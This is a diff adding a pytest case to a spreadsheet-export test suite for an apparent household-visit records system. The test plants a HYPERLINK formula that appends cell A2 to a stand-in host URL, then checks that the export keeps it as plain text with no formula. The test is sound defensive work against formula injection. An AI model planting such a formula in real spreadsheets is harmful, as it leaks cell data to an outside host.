@@ -136,6 +136,21 @@ async def test_the_file_has_frozen_headers_filters_widths_and_no_full_id(team: T
     assert not FULL_ID.search(xml) and "211204********" in xml
 
 
+async def test_text_that_looks_like_a_formula_stays_text(team: Team) -> None:
+    planted = '=HYPERLINK("http://example.invalid/?"&A2,"点我")'
+    with team.svc.transaction() as s:
+        first = households.get(session=s, household_id=team.mine[0].id or 0)
+        assert first is not None
+        factories.visit(s, first, WORKER, at=dt.datetime(2026, 11, 30, 2, 0, tzinfo=dt.UTC),
+                        notes=planted)
+    wb, content, _ = await _export(team, SUPERVISOR)
+    cells = [c for row in wb["走访记录"].iter_rows() for c in row if c.value == planted]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(io.BytesIO(content)) as z:
+        assert "<f>" not in "".join(z.read(n).decode() for n in z.namelist()
+                                    if n.startswith("xl/worksheets/"))
+
+
 @pytest.mark.parametrize(("user_id", "inside", "outside"), [
     (TOWN_SUPERVISOR, {"张小明", "赵四"}, {"聂家标记户", "铁岭县标记户", "陈阿婆"}),
     (SUPERVISOR, {"张小明", "赵四", "聂家标记户"}, {"铁岭县标记户", "陈阿婆"}),
